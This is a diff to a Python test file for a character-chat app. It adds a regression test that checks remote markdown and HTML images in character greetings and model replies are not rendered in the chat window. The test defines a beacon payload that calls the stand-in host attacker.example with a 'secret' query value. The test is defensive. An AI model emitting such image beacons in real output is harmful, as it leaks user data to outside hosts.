@@ -212,3 +212,19 @@ def test_a_message_in_a_language_the_engine_cannot_write_says_so_and_how_to_fix_
         with pytest.raises(gr.Error, match="cannot write Chinese.*ollama pull qwen2.5"):
             _respond("你好，请介绍一下你自己", ada.character, {}, ada.history, engine="english only", speak=False)
     assert server.requests == []  # nothing was generated
+
+
+BEACON = "![logo](https://attacker.example/pixel.png?c=secret) and <img src=https://attacker.example/x.gif>"
+
+
+def test_the_chat_window_never_loads_remote_images_from_a_card_or_a_reply(free_port, operator_engines):
+    """Before: markdown images in a greeting or a reply made every visitor's browser fetch them (a beacon)."""
+    character = load_character(EXAMPLES / "characters" / "museum_guide.json")
+    character.first_mes = f"Welcome! {BEACON}"
+    chatbot, history, _, _ = chat_tab.restart(character, {})
+    assert "attacker.example" not in json.dumps(chatbot) and "logo" in chatbot[0]["content"]
+    assert "attacker.example" in history[0]["content"]  # the model still sees what the card says
+    with ChatServer(free_port, reply=f"Look: {BEACON}") as server:
+        operator_engines(_server_engine(server))
+        steps = _respond("hi", character, {}, history, engine="test server", speak=False)
+    assert all("attacker.example" not in json.dumps(step[0]) for step in steps)
